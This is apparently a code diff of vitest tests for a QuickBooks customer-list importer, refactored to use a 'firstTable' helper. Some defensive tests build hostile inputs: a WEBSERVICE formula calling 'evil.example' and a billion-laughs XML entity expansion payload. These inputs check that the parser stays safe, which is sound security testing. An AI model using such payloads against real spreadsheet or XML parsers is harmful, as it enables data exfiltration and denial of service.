@@ -3,8 +3,7 @@ import { readFileSync } from 'node:fs';
 import { crc32, deflateRawSync } from 'node:zlib';
 import { expect, test } from 'vitest';
 import { compareWithList } from '#lib/quickbooks-list/compare.ts';
-import { findHeads } from '#lib/quickbooks-list/heads.ts';
-import { readList, reasons } from '#lib/quickbooks-list/listed.ts';
+import { reasons } from '#lib/quickbooks-list/listed.ts';
 import {
   MOST_BYTES,
   MOST_ROWS,
@@ -13,6 +12,7 @@ import {
   refusals,
 } from '#lib/quickbooks-list/read-file.ts';
 import { LISTED, listedCustomers } from '../../support/listed-customers.ts';
+import { firstTable } from '../../support/read-list.ts';
 
 const fixture = (name: string) => new Uint8Array(readFileSync(`tests/fixtures/${name}`));
 const fileOf = (...parts: (string | Uint8Array)[]) => new Blob(parts as BlobPart[]);
@@ -95,8 +95,7 @@ const cell = (at: string, text: string) => `<c r="${at}" t="inlineStr"><is><t>${
 test.each(['quickbooks-list.xlsx', 'quickbooks-list.csv'])(
   'reads %s, which other programs wrote, with every row above and below the customers',
   async (name) => {
-    const sheet = await readListFile(fileOf(fixture(name)));
-    const { listed, unread } = readList(sheet, findHeads(sheet.rows));
+    const { listed, unread } = (await firstTable(fileOf(fixture(name)))).list;
     expect(unread).toEqual([]);
     expect(listed).toHaveLength(LISTED.rows);
     const { compared } = compareWithList(
@@ -129,48 +128,44 @@ test.each([
   ['tabs', fileOf(table.replaceAll(',', '\t'))],
   ['CRLF', fileOf(table.replaceAll('\n', '\r\n').replace('Straat\r', 'Straat'))],
 ])('reads a CSV file in %s', async (_, file) => {
-  expect((await readListFile(file)).rows).toEqual(rows);
+  expect((await firstTable(file)).sheet.rows).toEqual(rows);
 });
 
 test('reads the sheet with the heads, below or beside others', async () => {
   const tips = `<row r="1">${cell('A1', 'Tips for QuickBooks')}</row>`;
   const list = `<row r="1">${cell('A1', 'Name')}${cell('B1', 'Email')}</row>`;
   for (const file of [workbook(tips, {}, list), workbook(list, {}, tips)]) {
-    expect((await readListFile(fileOf(file))).rows).toEqual([['Name', 'Email']]);
+    expect((await firstTable(fileOf(file))).sheet.rows).toEqual([['Name', 'Email']]);
   }
 });
 
 test.each(['hidden', 'veryHidden'])('reads a visible sheet rather than one that is %s', async (state) => {
   const list = (name: string) => `<row r="1">${cell('A1', 'Name')}</row><row r="2">${cell('A2', name)}</row>`;
   const file = fileOf(workbook(list('Old'), {}, list('New'), state));
-  expect((await readListFile(file)).rows).toEqual([['Name'], ['New']]);
+  expect((await firstTable(file)).sheet.rows).toEqual([['Name'], ['New']]);
 });
 
 test('a UTF-8 file with a few wrong bytes stays UTF-8, and the rows that have them are listed', async () => {
   const bytes = Buffer.from('Name,Email\nMüller,a@b.co.za\nCaf_ Luna,c@d.co.za\nZoë,e@f.co.za\n');
   bytes[bytes.indexOf('_')] = 0xe9;
-  const sheet = await readListFile(fileOf(bytes));
-  const { listed, unread } = readList(sheet, findHeads(sheet.rows));
+  const { listed, unread } = (await firstTable(fileOf(bytes))).list;
   expect(listed.map(({ name }) => name)).toEqual(['Müller', 'Caf\uFFFD Luna', 'Zoë']);
   expect(unread).toMatchObject([{ id: '3', details: reasons.lost }]);
 });
 
 test('a formula is its stored result, and a link is its text', async () => {
   const formula = '<c r="B1" t="str"><f>WEBSERVICE("http://evil.example")</f><v>stored</v></c>';
-  const { rows: read } = await readListFile(
-    fileOf(workbook(`<row r="1">${cell('A1', 'Name')}${formula}</row>`)),
-  );
-  expect(read).toEqual([['Name', 'stored']]);
+  const file = fileOf(workbook(`<row r="1">${cell('A1', 'Name')}${formula}</row>`));
+  expect((await firstTable(file)).sheet.rows).toEqual([['Name', 'stored']]);
 });
 
 test('rows of formulas without a result, and of errors, are listed as unread', async () => {
   const heads = `<row r="1">${cell('A1', 'Name')}${cell('B1', 'Email')}</row>`;
   const lost = '<row r="2"><c r="A2"><f>Old!A2</f></c><c r="B2"><f>Old!B2</f></c></row>';
   const error = `<row r="3"><c r="A3" t="e"><f>1/0</f><v>#DIV/0!</v></c>${cell('B3', 'a@b.co.za')}</row>`;
-  const sheet = await readListFile(
-    fileOf(workbook(`${heads}${lost}${error}<row r="4">${cell('A4', 'Karoo')}</row>`)),
-  );
-  const { listed, unread } = readList(sheet, findHeads(sheet.rows));
+  const { listed, unread } = (
+    await firstTable(fileOf(workbook(`${heads}${lost}${error}<row r="4">${cell('A4', 'Karoo')}</row>`)))
+  ).list;
   expect(listed.map(({ row }) => row)).toEqual([3, 4]);
   expect(unread.map(({ id, details }) => [id, details])).toEqual(['2', '3'].map((id) => [id, reasons.lost]));
 });
@@ -178,9 +173,9 @@ test('rows of formulas without a result, and of errors, are listed as unread', a
 test('entities of a file’s own aren’t expanded', async () => {
   const laughs = `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(1_000)}"><!ENTITY c "${'&b;'.repeat(1_000)}">]>`;
   const text = `${laughs}<worksheet><sheetData><row r="1">${cell('A1', 'Name &c;')}</row></sheetData></worksheet>`;
-  const sheet = await readListFile(fileOf(workbook('', { text }))).catch((error: Error) => error);
-  expect(sheet instanceof Error ? sheet.message : sheet.rows).toEqual(
-    sheet instanceof Error ? refusals.notExcel : [['Name &c;']],
+  const table = await firstTable(fileOf(workbook('', { text }))).catch((error: Error) => error);
+  expect(table instanceof Error ? table.message : table.sheet.rows).toEqual(
+    table instanceof Error ? refusals.notExcel : [['Name &c;']],
   );
 });
 
@@ -256,10 +251,9 @@ test.each<[what: string, file: () => Blob, message: string]>([
 });
 
 test('a quote without an end is listed with its row', async () => {
-  const sheet = await readListFile(
-    fileOf('Name,Email\nKaroo,a@b.co.za\n"Paarl,c@d.co.za\nBrits,e@f.co.za\n'),
-  );
-  const { listed, unread } = readList(sheet, findHeads(sheet.rows));
+  const { listed, unread } = (
+    await firstTable(fileOf('Name,Email\nKaroo,a@b.co.za\n"Paarl,c@d.co.za\nBrits,e@f.co.za\n'))
+  ).list;
   expect(listed.map(({ name }) => name)).toEqual(['Karoo']);
   expect(unread).toMatchObject([{ id: '3', details: reasons.quotes }]);
 });
